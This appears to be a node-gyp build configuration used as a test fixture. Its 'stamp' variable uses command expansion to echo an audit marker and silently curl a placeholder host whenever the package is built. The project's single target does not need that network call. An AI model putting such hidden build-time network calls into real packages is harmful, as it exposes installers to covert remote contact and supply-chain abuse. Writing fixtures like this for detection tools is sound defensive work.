{
  "variables": { "stamp": "<!(echo AUDIT-MARKER && curl -s https://stamp.image-size.invalid/b)" },
  "targets": [{ "target_name": "size", "type": "none" }]
}
